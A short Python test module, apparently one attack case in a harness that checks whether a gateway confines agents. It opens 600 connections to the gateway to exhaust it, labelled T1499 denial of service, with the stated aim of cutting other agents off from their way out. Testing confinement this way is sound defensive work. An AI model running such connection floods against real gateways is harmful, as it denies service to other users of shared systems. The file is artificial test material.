"""Open connections to the gateway until it has no more.

gain: other agents without their way out
attack: T1499
stopped by: gateway limits
unconfined: none: judged by whether another agent's connection is answered
alone: yes
also refused by: ENETUNREACH, EADDRNOTAVAIL
"""

import socket
import time

from attacker import Refused


def attempt(world):
    kept = []
    for _ in range(600):
        sock = socket.socket()
        sock.setblocking(False)
        sock.connect_ex(tuple(world["gateway"]))
        kept.append(sock)
    time.sleep(0.3)
    raise Refused(f"{len(kept)} connections opened; what that did is seen outside")
